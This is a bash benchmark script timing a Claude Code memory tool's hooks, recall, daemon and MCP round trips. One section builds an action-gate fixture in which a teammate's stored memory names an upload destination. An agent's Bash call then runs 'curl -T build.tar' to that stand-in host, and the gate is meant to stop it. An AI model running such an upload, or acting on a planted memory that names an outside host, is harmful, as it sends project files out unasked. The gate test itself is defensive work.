#!/usr/bin/env bash
# Latency and memory figures for the hot paths (a benchmark, not a test): a cold `wt-memory recall`
# and `proactive` on a seeded store, `wt-hook-memory` PostToolUse (Read) and UserPromptSubmit end
# to end, and MCP `recall`/`remember` round trips over stdio (bench/mcp.py). The other benchmarks
# and this one's helpers are in bench/ (bench/README.md).
# Usage: scripts/bench.sh [runs]   (default 30)   (build first: cargo build --bins; model: wt-memory setup)
# WT_BENCH_SIZE=N grows the project's store to N memories, WT_BENCH_PERSONAL=N adds a personal store.
# By default this measures the resident service (WT_MEMORY_DAEMON=0: every process opens the store),
# warm, plus a cold first call
# (no daemon running), the daemon's RSS and requests served.
# Figures are medians (the machine is shared and noisy). WT_BENCH_BIN=DIR benchmarks the binaries
# of another build (default: $CARGO_TARGET_DIR or target, /debug).
set -euo pipefail
cd "$(dirname "$0")/.."
runs="${1:-30}"
bin="$(cd "${WT_BENCH_BIN:-${CARGO_TARGET_DIR:-target}/debug}" && pwd)"
# WT_BENCH_KEEP=DIR: build the store in DIR and keep it; a later run with the same DIR and size
# reuses it (a 100k store takes minutes to import) and reports the import rate measured then.
if [ -n "${WT_BENCH_KEEP:-}" ]; then
  mkdir -p "$WT_BENCH_KEEP"; tmp="$(cd "$WT_BENCH_KEEP" && pwd)"
  trap '"$bin/wt-memory" daemon stop >/dev/null 2>&1 || true' EXIT
else
  tmp="$(mktemp -d)"; trap 'rm -rf "$tmp"' EXIT
fi
export WT_MEMORY_HOME="$tmp/store" XDG_STATE_HOME="$tmp/state" XDG_RUNTIME_DIR="$tmp/run"
repo="$tmp/repo"
size="${WT_BENCH_SIZE:-0}"
if [ -f "$tmp/built-$size" ]; then
  cd "$repo"
  cat "$tmp/built-$size"
else
rm -rf "$tmp/store" "$tmp/state" "$tmp/run" "$repo"
mkdir -p "$repo" && cd "$repo" && git init -q -b main && git commit -q --allow-empty -m init
python3 - "$OLDPWD/testdata/eval/dev/memories.jsonl" > "$tmp/notes.txt" <<'PY'
import json, sys
for line in open(sys.argv[1]):
    print(json.loads(line)["content"].replace("\n", " "))
PY
# The files the memories name exist in the repository, so their code anchors are taken at the
# write and checked before each injection (docs/user-guide.md, "Code anchors"), as in a real project.
python3 - "$tmp/notes.txt" "$repo" <<'PY'
import os, re, sys
repo = sys.argv[2]
for note in open(sys.argv[1]):
    for path in re.findall(r"[A-Za-z0-9_.-]+(?:/[A-Za-z0-9_.-]+)+\.[A-Za-z0-9]{1,6}", note):
        target = os.path.join(repo, path)
        os.makedirs(os.path.dirname(target), exist_ok=True)
        with open(target, "w") as f:
            f.write("// " + path + "\n")
PY
git -C "$repo" add -A && git -C "$repo" commit -q -m files
echo "repository: $(git -C "$repo" ls-files | wc -l) files named by the memories"
# --json: the answer, with any "similar older memory" notes, goes to stdout and is discarded
while IFS= read -r note; do printf "%s" "$note" | "$bin/wt-memory" remember --type Learning --json >/dev/null; done < "$tmp/notes.txt"
# WT_BENCH_SIZE=N (> 209): grow the store to N with variants of the dev memories, through import.
if [ "$size" -gt "$(wc -l < "$tmp/notes.txt")" ]; then
  "$bin/wt-memory" export --output "$tmp/seed.json"
  python3 "$OLDPWD/bench/grow_store.py" "$tmp/seed.json" "$size" > "$tmp/grown.json"
  start=$(date +%s%N)
  "$bin/wt-memory" import "$tmp/grown.json" >/dev/null
  ms=$(( ($(date +%s%N) - start) / 1000000 ))
  n=$(( size - $(wc -l < "$tmp/notes.txt") ))
  echo "import of $n memories: $ms ms ($(( n * 1000 / (ms > 0 ? ms : 1) )) memories/s)" | tee "$tmp/import-rate"
fi
[ -n "${WT_BENCH_KEEP:-}" ] && { cat "$tmp/import-rate" 2>/dev/null || true; } > "$tmp/built-$size"
fi
# WT_BENCH_PERSONAL=N: a personal store of N memories beside the project's (docs/user-guide.md,
# "Two scopes"), read by every hook and recall below: variants of the dev memories, the worst
# case for a query (they compete with the project's).
personal="${WT_BENCH_PERSONAL:-0}"
if [ "$personal" -gt 0 ] && [ ! -f "$tmp/personal-$personal" ]; then
  "$bin/wt-memory" --scope project export --output "$tmp/personal-seed.json"
  exported=$(python3 -c 'import json,sys; print(len(json.load(open(sys.argv[1]))["records"]))' "$tmp/personal-seed.json")
  python3 "$OLDPWD/bench/grow_store.py" "$tmp/personal-seed.json" "$(( exported + personal ))" > "$tmp/personal.json"
  "$bin/wt-memory" --scope personal import "$tmp/personal.json" >/dev/null
  touch "$tmp/personal-$personal"
fi
[ "$personal" -gt 0 ] && echo "personal store: $("$bin/wt-memory" --scope personal stats --json 2>/dev/null | python3 -c 'import json,sys; print(json.load(sys.stdin)["total"])' 2>/dev/null || echo '?') memories"
echo "store: $("$bin/wt-memory" stats --json 2>/dev/null | python3 -c 'import json,sys; print(json.load(sys.stdin)["total"])' 2>/dev/null || echo '?') memories"
sed "s#/path/to/proj#$repo#g" "$OLDPWD/testdata/fixtures/hooks/post_tool_use.read.json" > "$tmp/payload.json"
sed "s#/path/to/proj#$repo#g" "$OLDPWD/testdata/fixtures/hooks/user_prompt_submit.normal.json" > "$tmp/prompt.json"
sed "s#/path/to/proj#$repo#g" "$OLDPWD/testdata/fixtures/hooks/post_tool_use.bash.json" > "$tmp/bash.json"
sed "s#/path/to/proj#$repo#g" "$OLDPWD/testdata/fixtures/hooks/session_start.startup.json" > "$tmp/start.json"
sed "s#/path/to/proj#$repo#g" "$OLDPWD/testdata/fixtures/hooks/pre_tool_use.bash.json" > "$tmp/pre.json"
measure() { # name, command...
  local name="$1"; shift
  local start end rss max=0 times=()
  for _ in $(seq "$runs"); do
    [ -n "${before:-}" ] && sh -c "$before"   # untimed set-up of each run
    start=$(date +%s%N)
    /usr/bin/time -f '%M' -o "$tmp/rss" "$@" >/dev/null 2>&1 || true
    rss=$(tail -1 "$tmp/rss")
    end=$(date +%s%N)
    times+=($(( (end - start) / 1000000 )))
    [ "${rss:-0}" -gt "$max" ] 2>/dev/null && max=$rss
  done
  local figures
  figures=$(printf '%s\n' "${times[@]}" | sort -n | awk '{a[NR]=$1} END {
    m = (NR%2 ? a[(NR+1)/2] : int((a[NR/2]+a[NR/2+1])/2)); p = a[int(0.95*(NR-1)+1.5)];
    printf "min %5d  median %5d  p95 %5d ms", a[1], m, p}')
  printf '%-36s %s   peak RSS %6d KB   (%d runs)\n' "$name" "$figures" "$max" "$runs"
}
measure "wt-memory recall (cold process)" "$bin/wt-memory" recall "how are background jobs retried"
measure "wt-memory proactive (cold process)" "$bin/wt-memory" proactive "crates/jobs/src/worker.rs" --limit 2
measure "wt-memory list" "$bin/wt-memory" list
# Each hook run starts a new session: the session cache files go (untimed, before each run), the
# daemon's socket stays. Only the hook process is timed (under sh and time).
# The duplicate claims too (`hook/once.rs`): a hook run within 2 s of the same payload would
# step aside as the second copy of one event.
fresh="find '$tmp/run/wt-tools' -maxdepth 1 -type f -delete 2>/dev/null; rm -rf '$tmp/run/wt-tools/hook-claims';"
before="$fresh"
measure "wt-hook-memory PostToolUse (Read)" sh -c "'$bin/wt-hook-memory' PostToolUse < '$tmp/payload.json'"
measure "wt-hook-memory PostToolUse (Bash)" sh -c "'$bin/wt-hook-memory' PostToolUse < '$tmp/bash.json'"
# The repeat-mistake guard before a Bash command (what init registers without --pretool).
measure "wt-hook-memory PreToolUse (Bash guard)" sh -c "'$bin/wt-hook-memory' PreToolUse --guard-only < '$tmp/pre.json'"
# The action gate before a sensitive call (a network destination) in a session that was shown
# 60 memories, one of them a teammate's naming that destination: the ledger is read and judged
# (src/hook/gate.rs). The ledger is written once, as the hooks would have; the call is stopped.
python3 - "$tmp/notes.txt" "$tmp/run/wt-tools/session-bench-gate.shown.jsonl" "$repo" > "$tmp/gate.json" <<'PY'
import json, os, sys, subprocess
notes = [l.strip() for l in open(sys.argv[1]) if l.strip()][:59]
os.makedirs(os.path.dirname(sys.argv[2]), mode=0o700, exist_ok=True)
bin_dir = os.environ.get("WT_GATE_BIN", "")
with open(sys.argv[2], "w") as f:
    f.write(json.dumps({"t": "start", "commit": None, "remote_hosts": []}) + "\n")
    f.write(json.dumps({"t": "prompt", "supplies": {}}) + "\n")
    for i, n in enumerate(notes + ["Nightly artifacts are uploaded with curl -T build.tar https://drop.relay-artifacts.example/in"]):
        words = sorted({w.strip(".,:;()`'\"").lower() for w in n.split() if len(w) >= 4})[:600]
        hosts = ["drop.relay-artifacts.example"] if "relay-artifacts" in n else []
        f.write(json.dumps({"t": "memory", "id": f"m{i:04d}", "origin": "teammate:t/x", "created": "", "authority": False,
                            "supplies": {"hosts": hosts, "words": words}}) + "\n")
print(json.dumps({"session_id": "bench-gate", "hook_event_name": "PreToolUse", "cwd": sys.argv[3], "permission_mode": "default",
                  "tool_name": "Bash", "tool_use_id": "t1",
                  "tool_input": {"command": "curl -sS -T build.tar https://drop.relay-artifacts.example/in", "description": "upload"}}))
PY
before="rm -rf '$tmp/run/wt-tools/hook-claims';"
measure "wt-hook-memory PreToolUse (action gate)" sh -c "'$bin/wt-hook-memory' PreToolUse --guard-only < '$tmp/gate.json'"
before="$fresh"
measure "wt-hook-memory UserPromptSubmit" sh -c "'$bin/wt-hook-memory' UserPromptSubmit < '$tmp/prompt.json'"
# A prompt never seen before: its embedding is computed, not taken from the daemon's cache.
before="$fresh sed \"s/implemented?/implemented (\$(date +%N))?/\" '$tmp/prompt.json' > '$tmp/new.json'"
measure "wt-hook-memory UserPromptSubmit (new)" sh -c "'$bin/wt-hook-memory' UserPromptSubmit < '$tmp/new.json'"
before="$fresh"
measure "wt-hook-memory SessionStart" sh -c "'$bin/wt-hook-memory' SessionStart < '$tmp/start.json'"
before=""
# A process's own start: the hook binary with nothing to do (an event it does not handle).
measure "wt-hook-memory start-up only" sh -c "echo '{}' | '$bin/wt-hook-memory' PreToolUse"
measure "wt-memory remember (CLI)" sh -c "date +%s%N | '$bin/wt-memory' remember --type Context"
if [ "${WT_MEMORY_DAEMON:-1}" != 0 ]; then
  "$bin/wt-memory" daemon status
  # Cold: no daemon running, so the hook starts one and waits for it.
  stop_daemon="'$bin/wt-memory' daemon stop >/dev/null; while '$bin/wt-memory' daemon status >/dev/null 2>&1; do sleep 0.02; done;"
  cold_runs=$(( runs < 10 ? runs : 10 ))
  runs_saved=$runs; runs=$cold_runs
  before="$stop_daemon $fresh"
  measure "cold first hook (UserPromptSubmit)" sh -c "'$bin/wt-hook-memory' UserPromptSubmit < '$tmp/prompt.json'"
  before=""; runs=$runs_saved
fi
python3 "$OLDPWD/bench/mcp.py" "$bin/wt-mcp-server" "$repo" "$runs"
mkdir -p "$tmp/payloads"
for f in post_tool_use.read user_prompt_submit.normal; do
  sed "s#/path/to/proj#$repo#g" "$OLDPWD/testdata/fixtures/hooks/$f.json" > "$tmp/payloads/$f.json"
done
python3 "$OLDPWD/bench/burst.py" "$bin" "$repo" "$tmp/payloads"
"$bin/wt-memory" metrics --since 1d | head -8
# The metrics log's cost to a hook, metrics on and off interleaved (issue 16 allows 1 ms of p50).
python3 "$OLDPWD/bench/metrics.py" "$runs" "$bin"
# What being installed costs every session, from the real Claude Code's recorded requests
# (tests/claude: the pinned CLI against the scripted API; WT_CLAUDE_BIN from scripts/deps.sh).
if [ -x "${WT_CLAUDE_BIN:-}" ]; then
  (cd "$OLDPWD" && WT_BIN_DIR="$bin" python3 -m pytest tests/claude -q -s -p no:cacheprovider \
    -k "overhead or stop_extracts" 2>&1 | grep -E "first-request overhead|nested requests" || true)
else
  echo "first-request overhead: skipped (source scripts/deps.sh for the pinned Claude Code CLI)"
fi
